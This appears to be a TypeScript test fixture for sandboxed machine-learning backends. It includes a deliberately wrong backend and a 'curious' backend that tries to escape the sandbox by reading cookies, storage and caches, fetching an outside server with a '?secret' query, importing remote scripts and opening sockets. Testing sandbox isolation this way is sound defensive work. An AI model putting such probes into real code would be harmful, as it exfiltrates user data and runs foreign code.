import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';

// Modules that somebody might bring to the view of backends.

const TEMPLATE = fileURLToPath(new URL('../../../templates/backend', import.meta.url));
const ESBUILD = fileURLToPath(new URL('../node_modules/esbuild/bin/esbuild', import.meta.url));

/** The template's backend as a module, made by its own command, into another file. */
export async function templateModule(): Promise<string> {
  const { scripts } = JSON.parse(await readFile(join(TEMPLATE, 'package.json'), 'utf8')) as {
    scripts: { module: string };
  };
  const [esbuild, ...args] = scripts.module.split(' ');
  if (esbuild !== 'esbuild') throw new Error(`the template's command isn't one of esbuild: ${scripts.module}`);
  const folder = await mkdtemp(join(tmpdir(), 'heed-module-'));
  const file = join(folder, 'module.js');
  try {
    const own = args.filter((one) => !one.startsWith('--outfile='));
    await promisify(execFile)(ESBUILD, [...own, `--outfile=${file}`], { cwd: TEMPLATE });
    return await readFile(file, 'utf8');
  } finally {
    await rm(folder, { recursive: true });
  }
}

/** A module whose backend has these parts, written in JavaScript, and otherwise composes everything. */
export const moduleOf = (parts: { before?: string; notes?: string; kernels?: string; takes?: string }): string => `
  import * as tf from '@tensorflow/tfjs-core';
  ${parts.before ?? ''}
  export default {
    name: 'brought',
    async unavailableReasons() {
      await import('@tensorflow/tfjs-backend-cpu');
      return [];
    },
    async create() {
      return {
        specVersion: 1,
        name: 'brought',
        engine: 'cpu',
        kernels: ${parts.kernels ?? '{}'},
        takes: ${parts.takes ?? '{}'},
        capabilities: {
          skips: [], simd: 'none', threads: 1, floatBits: 32, accumulatorBits: 32, deterministic: true, replaces: [],
          notes: ${parts.notes ?? '[]'},
        },
        dispose: async () => {},
      };
    },
  };`;

/** A backend whose weighted sums are all 0. */
export const WRONG = moduleOf({
  takes: "{ normalizers: ['softmax'] }",
  kernels: `{
    weightedContext: {
      forward: ({ scores, value }, { valueWidth }) => ({
        context: tf.zeros([...scores.shape.slice(0, 3), valueWidth]),
        weights: tf.zeros(scores.shape),
      }),
      backward: ({ scores, value }) => ({ dScores: tf.zeros(scores.shape), dValue: tf.zeros(value.shape) }),
    },
  }`,
});

/**
 * A backend that tries all ways out of the sandbox that it knows, to the page and to a server elsewhere, and tells in its notes which are
 * open.
 */
export const curious = (page: string, elsewhere: string): string =>
  moduleOf({
    before: `
      const refusedAfter = (ms) => new Promise((_, reject) => setTimeout(reject, ms, new Error('no answer')));
      const ways = {
        'indexedDB': () => new Promise((resolve, reject) => {
          const opening = indexedDB.open('keyval-store');
          opening.onsuccess = resolve;
          opening.onerror = reject;
        }),
        'files of the origin': () => navigator.storage.getDirectory(),
        // WebKit lets any origin have caches, but only its own.
        'caches of the page': async () => {
          if (!(await caches.keys()).includes('heed-playground')) throw new Error('not there');
        },
        'cookies': () => cookieStore.getAll(),
        'locks': () => navigator.locks.query(),
        'fetch of the page': () => fetch('${page}'),
        'fetch of another server': () => fetch('${elsewhere}/?secret', { mode: 'no-cors' }),
        'import from another server': () => import(['${elsewhere}', 'x.js'].join('/')),
        'web socket': () => new Promise((resolve, reject) => {
          const socket = new WebSocket('${elsewhere}/'.replace('http', 'ws'));
          socket.onopen = resolve;
          socket.onerror = reject;
        }),
        'script of another server': async () => importScripts('${elsewhere}/x.js'),
        'event source': () => new Promise((resolve, reject) => {
          const source = new EventSource('${elsewhere}/');
          source.onopen = resolve;
          source.onerror = reject;
        }),
        'worker of the page': () => new Promise((resolve, reject) => {
          const worker = new Worker('${page}offline-worker.js');
          worker.onmessage = resolve;
          worker.onerror = reject;
        }),
        'fetch by a worker': () => new Promise((resolve, reject) => {
          const text = "fetch('${page}').then(() => postMessage(1), () => postMessage(0))";
          const worker = new Worker(URL.createObjectURL(new Blob([text])));
          worker.onmessage = ({ data }) => (data === 1 ? resolve() : reject(new Error('refused')));
          worker.onerror = reject;
        }),
        'code from text': () => Promise.resolve(new Function('return 1')()),
      };
      const open = [];
      for (const [name, way] of Object.entries(ways)) {
        await Promise.race([Promise.resolve().then(way), refusedAfter(1500)]).then(() => open.push(name), () => {});
      }`,
    notes: '[`tried ${Object.keys(ways).length}, open: ${open.join(", ") || "none"}; origin ${self.origin}`]',
  });
